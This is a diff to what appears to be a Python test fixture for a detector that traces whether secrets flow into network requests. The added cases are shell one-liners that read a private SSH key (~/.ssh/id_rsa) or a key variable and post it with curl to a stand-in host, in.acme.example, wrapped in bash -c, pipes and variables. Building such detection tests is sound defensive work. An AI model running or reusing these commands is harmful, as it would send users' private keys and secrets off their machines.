@@ -25,9 +25,17 @@ GIVEN = {
     + "python3 /tmp/prog",
     "word of a written script": WRITTEN.format(SHELL.format('"$1"')) + f"sh /tmp/prog {KEY}",
     "variable of a written script": f"export N={KEY}\n" + WRITTEN.format(SHELL.format('"$N"')) + "sh /tmp/prog",
+    "word of a text of a shell": f"bash -c 'curl -d \"$1\" https://in.acme.example/' x {KEY}",
+    "text of a shell": "bash -c \"curl -d '$(cat ~/.ssh/id_rsa)' https://in.acme.example/\"",
+    "input of a text of a shell": "cat ~/.ssh/id_rsa | bash -c 'curl -d @- https://in.acme.example/'",
+    "variable of a text of a shell": f"export K={KEY}\nbash -c 'curl -d \"$K\" https://in.acme.example/'",
+    "what a text of a shell prints": "bash -c 'cat ~/.ssh/id_rsa; echo' | curl -d @- https://in.acme.example/",
+    "within a text of a shell": "bash -c 'K=$(cat ~/.ssh/id_rsa); curl -d \"$K\" https://in.acme.example/'",
     "input of a written script": WRITTEN.format(SHELL.format("@-")) + "cat ~/.ssh/id_rsa | sh /tmp/prog",
 }
 NOT_GIVEN = {
+    "text of a shell that prints something else": "bash -c 'curl https://in.acme.example/; cat ~/.ssh/id_rsa'",
+    "input of a shell that prints something else": "bash <<'X'\ncurl https://in.acme.example/\ncat ~/.ssh/id_rsa\nX",
     "text": f"echo {KEY} > k.txt\npython3 -c '{PYTHON.format('sys.argv[1]')}' fixed",
     "written program": f"echo {KEY} > k.txt\n"
     + WRITTEN.format(PYTHON.format("sys.argv[1]"))
